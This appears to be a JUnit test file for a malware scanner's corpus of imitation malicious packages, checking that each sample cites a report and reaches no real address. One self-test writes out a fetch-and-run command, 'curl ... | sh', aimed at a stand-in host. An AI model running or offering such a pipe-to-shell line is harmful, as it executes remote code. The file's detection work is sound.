package uk.reeve.scanner.imitations;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.GZIPInputStream;
import org.apache.commons.compress.archivers.ArchiveEntry;
import org.apache.commons.compress.archivers.ArchiveInputStream;
import org.apache.commons.compress.archivers.ar.ArArchiveInputStream;
import org.apache.commons.compress.archivers.tar.TarArchiveInputStream;
import org.apache.commons.compress.archivers.zip.ZipArchiveInputStream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import tools.jackson.core.JsonParser;
import tools.jackson.core.ObjectReadContext;
import tools.jackson.core.json.JsonFactory;
import uk.reeve.scanner.imitations.Imitation.Section;

/// Holds each imitation to what makes it one: an archive as its ecosystem packs it, a public report, and no address
/// that anything could come from, in its text or in what the text decodes to.
class ImitationsTest {

    private static final Pattern TECHNIQUES = Pattern.compile("T\\d{4}(\\.\\d{3})?( T\\d{4}(\\.\\d{3})?)*");
    private static final Pattern REPORT = Pattern.compile("\\S.*[.?] .*, (20\\d\\d)");
    private static final Pattern SOURCE = Pattern.compile(
            "https://\\S+|MAL-20\\d\\d-\\d+|GHSA(-[23456789cfghjmpqrvwx]{4}){3}|CVE-20\\d\\d-\\d+|(RUSTSEC|PYSEC)-20\\d\\d-\\d+");
    private static final Pattern URL =
            Pattern.compile("(?i)\\b(?:https?|wss?|ftp|tcp|stratum\\+tcp)://([^\\s/:\"'`<>?#\\\\)]+)");
    private static final Pattern IPV4 =
            Pattern.compile("(?<![\\d.A-Za-z-])(\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3})(?![\\d.])");
    private static final Pattern DOMAIN = Pattern.compile(
            "(?i)(?<![\\w.@$/-])\\.?(?:[a-z0-9-]+\\.)+(?:com|net|org|io|dev|app|ru|cn|xyz|site|online|cloud|uk|info|ai)(?![\\w.(-])(?!\\.)");
    private static final Pattern INERT = Pattern.compile("(?i)(.*\\.)?[a-z0-9-]+\\.(example|invalid)|localhost"
            + "|192\\.0\\.2\\.\\d+|198\\.51\\.100\\.\\d+|203\\.0\\.113\\.\\d+");
    /// Names of an XML vocabulary, which nothing fetches.
    private static final Pattern VOCABULARY = Pattern.compile("schemas\\.(microsoft\\.com|openxmlformats\\.org)");
    /// Made of pieces at run time; what the pieces say is checked where they stand.
    private static final Pattern PIECES = Pattern.compile("[$%{+].*");
    /// What a Go or Java import, or a file, is called.
    private static final Pattern NOT_A_HOST = Pattern.compile(
            "(golang|github|com|org|io|dev)\\..*|Microsoft\\.Build.*|System\\.IO|.*\\.(CodeDom|Net)|process\\..*");

    private static final Pattern BASE64 = Pattern.compile("[A-Za-z0-9+/]{16,}={0,2}");
    private static final Pattern HEXADECIMAL = Pattern.compile("[0-9a-f]{20,}");

    private static List<Path> texts(String folder) throws IOException {
        try {
            return Imitations.texts(
                    Path.of(ImitationsTest.class.getResource(folder).toURI()));
        } catch (URISyntaxException e) {
            throw new IOException(e);
        }
    }

    // Those too that the signs are measured by, and were not written for.
    private static List<Path> all() throws IOException {
        return Stream.concat(texts("/imitations").stream(), texts("/imitations-held-out").stream())
                .toList();
    }

    @Test
    void there_are_enough_of_them_and_about_half_are_of_npm_and_a_quarter_of_pypi() throws IOException {
        Map<String, Long> counts = new TreeMap<>();
        for (Path text : texts("/imitations")) {
            counts.merge(Imitation.read(text).ecosystem(), 1L, Long::sum);
        }
        long all = counts.values().stream().mapToLong(Long::longValue).sum();
        assertThat(all).isGreaterThanOrEqualTo(150);
        assertThat(counts.get("npm")).isBetween(all * 4 / 10, all * 6 / 10);
        assertThat(counts.get("pypi")).isBetween(all * 2 / 10, all * 3 / 10);
        assertThat(counts)
                .containsOnlyKeys(
                        "npm", "pypi", "rubygems", "nuget", "maven", "composer", "crates", "go", "debian", "github");
        assertThat(counts.values()).allMatch(count -> count >= 5);
    }

    @Test
    void no_two_have_the_same_name() throws IOException {
        List<String> names = new ArrayList<>();
        for (Path text : all()) {
            Imitation imitation = Imitation.read(text);
            names.add(imitation.ecosystem() + " " + imitation.name());
        }
        assertThat(names).doesNotHaveDuplicates();
    }

    @TestFactory
    Stream<DynamicTest> each_cites_a_report_is_an_archive_and_reaches_nobody() throws IOException {
        return all().stream()
                .map(text -> DynamicTest.dynamicTest(text.getFileName().toString(), () -> check(text)));
    }

    private static void check(Path text) throws IOException {
        Imitation imitation = Imitation.read(text);
        assertThat(imitation.header().keySet())
                .contains("name", "version", "imitates", "report", "source", "technique")
                .isSubsetOf("name", "version", "imitates", "report", "source", "technique", "as");
        assertThat(imitation.of("report")).matches(REPORT);
        assertThat(imitation.of("source")).matches(SOURCE);
        assertThat(imitation.of("technique")).matches(TECHNIQUES);
        assertThat(imitation.of("imitates")).hasSizeGreaterThan(30);

        byte[] archive = Imitations.archive(imitation);
        assertThat(Imitations.archive(imitation)).as("the same bytes again").isEqualTo(archive);
        Map<String, List<byte[]>> files = new TreeMap<>();
        open(Imitations.ending(imitation), archive, files);
        for (Section section : imitation.sections()) {
            if (section.kind().isEmpty()) {
                String path = new String(Markup.expand(section.path()), StandardCharsets.UTF_8);
                byte[] bytes = Markup.expand(section.text());
                assertThat(files.entrySet().stream()
                                .filter(file -> file.getKey().endsWith(path.replaceFirst("^DEBIAN/", "")))
                                .flatMap(file -> file.getValue().stream()))
                        .as(path)
                        .anyMatch(found -> Arrays.equals(found, bytes));
                if (path.matches("(.*/)?(package|composer)\\.json")) {
                    readJson(bytes);
                }
            }
            inert(section.text());
            inert(new String(Markup.expand(section.text()), StandardCharsets.UTF_8));
        }
        files.values().forEach(same -> same.forEach(bytes -> inert(new String(bytes, StandardCharsets.UTF_8))));
    }

    private static void readJson(byte[] bytes) {
        try (JsonParser json = new JsonFactory().createParser(ObjectReadContext.empty(), bytes)) {
            while (json.nextToken() != null) {
                json.currentToken();
            }
        }
    }

    /// Reads what the archive holds; a gem and a Debian package hold archives.
    private static void open(String name, byte[] bytes, Map<String, List<byte[]>> files) throws IOException {
        try (ArchiveInputStream<?> in = stream(name, new ByteArrayInputStream(bytes))) {
            for (ArchiveEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                byte[] content = in.readAllBytes();
                if (entry.getName().endsWith(".tar.gz")) {
                    open(entry.getName(), content, files);
                } else if (entry.getName().equals("metadata.gz")) {
                    try (InputStream inner = new GZIPInputStream(new ByteArrayInputStream(content))) {
                        files.put("metadata", List.of(inner.readAllBytes()));
                    }
                } else {
                    files.computeIfAbsent(entry.getName(), _ -> new ArrayList<>())
                            .add(content);
                }
            }
        }
        assertThat(files).isNotEmpty();
    }

    private static ArchiveInputStream<?> stream(String name, InputStream in) throws IOException {
        if (name.endsWith(".gem")) {
            return new TarArchiveInputStream(in);
        }
        if (name.endsWith(".deb")) {
            return new ArArchiveInputStream(in);
        }
        return name.endsWith("gz") || name.endsWith(".crate")
                ? new TarArchiveInputStream(new GZIPInputStream(in))
                : new ZipArchiveInputStream(in);
    }

    /// Fails at the first address that is not set aside for documentation, also within base64 and hexadecimal.
    private static void inert(String text) {
        assertThat(reachable(text)).isEmpty();
    }

    static List<String> reachable(String text) {
        List<String> found = new ArrayList<>();
        found.addAll(matches(URL, 1, text));
        found.addAll(matches(IPV4, 1, text));
        found.addAll(matches(DOMAIN, 0, text).stream()
                .filter(host -> !NOT_A_HOST.matcher(host).matches())
                .toList());
        found.removeIf(host -> INERT.matcher(host).matches()
                || VOCABULARY.matcher(host).matches()
                || PIECES.matcher(host).matches());
        for (String run : matches(BASE64, 0, text)) {
            String plain = decoded(run);
            if (!plain.equals(text) && plain.chars().allMatch(c -> c >= ' ' && c < 127 || c == '\n' || c == '\t')) {
                found.addAll(reachable(plain));
            }
        }
        for (String run : matches(HEXADECIMAL, 0, text)) {
            found.addAll(reachable(new String(
                    HexFormat.of().parseHex(run, 0, run.length() - run.length() % 2), StandardCharsets.ISO_8859_1)));
        }
        return found;
    }

    private static String decoded(String run) {
        String whole = run.replace("=", "");
        try {
            return new String(
                    Base64.getDecoder().decode(whole.substring(0, whole.length() - whole.length() % 4)),
                    StandardCharsets.ISO_8859_1);
        } catch (IllegalArgumentException e) {
            return "\0";
        }
    }

    private static List<String> matches(Pattern pattern, int group, String text) {
        return pattern.matcher(text)
                .results()
                .map((MatchResult m) -> m.group(group))
                .collect(Collectors.toList());
    }

    @Test
    void an_address_that_somebody_could_own_is_found_in_plain_text_base64_and_hexadecimal() throws IOException {
        String somebody = "https://files.somebody" + ".com/x";
        assertThat(reachable("get('" + somebody + "')")).isNotEmpty();
        assertThat(reachable(new String(Markup.expand("«base64 curl " + somebody + " | sh»"), StandardCharsets.UTF_8)))
                .isNotEmpty();
        assertThat(reachable(new String(Markup.expand("«hex " + somebody + "»"), StandardCharsets.UTF_8)))
                .isNotEmpty();
        assertThat(reachable("connect(80, \"8.8" + ".8.8\")")).isNotEmpty();
        assertThat(reachable("dns.resolve(x + '.somebody" + ".net')")).isNotEmpty();
        assertThat(reachable("https://a.example/ 192.0.2.7 b.invalid")).isEmpty();
    }

    @Test
    void markup_says_what_it_makes_and_refuses_what_it_does_not_know() throws IOException {
        assertThat(new String(Markup.expand("a«base64 «hex b»»c"), StandardCharsets.UTF_8))
                .isEqualTo("aNjI=c");
        assertThat(Markup.expand("«u 202e»")).isEqualTo("\u202e".getBytes(StandardCharsets.UTF_8));
        assertThat(Markup.expand("«random-base64 40 7»")).hasSize(40).isEqualTo(Markup.expand("«random-base64 40 7»"));
        assertThat(Markup.expand("«bytes 7f45»")).isEqualTo(new byte[] {0x7f, 0x45});
        assertThatThrownBy(() -> Markup.expand("«nothing 1 2»")).hasMessage("no such verb: nothing");
        assertThatThrownBy(() -> Markup.expand("«hex a")).hasMessage("« without »");
        assertThatThrownBy(() -> Markup.expand("a»")).hasMessageStartingWith("» without «");
    }
}
